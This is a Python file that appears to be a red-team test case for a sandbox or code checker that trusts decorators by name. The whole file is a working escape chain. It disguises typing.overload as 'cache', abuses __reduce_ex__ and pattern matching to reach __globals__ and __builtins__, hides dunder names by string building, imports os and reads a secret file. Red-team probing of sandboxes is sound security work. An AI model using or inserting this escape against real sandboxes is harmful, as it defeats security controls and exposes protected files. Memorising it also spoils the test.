# family: red team, round 10 (overload_as_cache_get_overloads)
# Variant of rt_004/rt_014 (decorator trusted by name): typing.overload imported as `cache` keeps the plain
# function in typing's overload registry; typing.get_overloads hands it back, and it is called with the class.
import abc
import copy
import typing
from typing import overload as cache


class Base(abc.ABC):
    @cache
    def kind(self):
        return type(self)

    def kind(self):
        return None


def metaclass():
    return typing.get_overloads(Base().kind)[0](Base)


class Probe(abc.ABC):
    __match_args__ = ("value",)


def _d(word):
    u = "_"
    return u + u + word + u + u


def install(target, names):
    def reducer(self, protocol):
        return (lambda: target, (), (None, names))

    maker = metaclass()("R", (), {_d("reduce_ex"): reducer})
    copy.copy(maker())


def read(obj, attribute):
    install(Probe, {_d("subclasshook"): classmethod(lambda c, sub: True), _d("match_args"): (attribute,)})
    match obj:
        case Probe(value):
            return value
    return None


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/tmp/r10/work/secret.txt").read().strip()


print(run())
